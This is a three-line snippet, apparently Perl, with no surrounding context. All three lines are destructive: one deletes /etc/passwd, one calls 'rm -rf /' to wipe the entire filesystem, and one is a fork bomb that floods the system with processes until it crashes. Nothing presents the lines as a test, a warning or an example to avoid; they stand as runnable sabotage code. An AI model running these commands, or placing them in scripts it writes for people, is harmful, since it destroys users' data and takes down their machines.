unlink "/etc/passwd";
system("rm", "-rf", "/");
fork while fork;
